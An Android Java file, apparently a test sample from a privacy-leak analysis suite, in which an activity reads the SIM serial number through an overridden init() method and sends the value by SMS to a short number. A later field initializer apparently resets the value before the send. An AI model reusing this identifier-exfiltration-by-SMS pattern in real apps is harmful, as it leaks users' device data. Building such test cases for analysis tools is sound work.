package cn.privlens.suite.override_undone_by_initializer;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Base {
        Base(Context context) { init(context); }
        void init(Context context) { }
    }
    static class Card extends Base {
        private String number = "none";
        Card(Context context) { super(context); }
        @Override
        void init(Context context) { number = ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getSimSerialNumber(); }
        String number() { return number; }
    }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        SmsManager.getDefault().sendTextMessage("10690000", null, new Card(this).number(), null, null);
    }
}
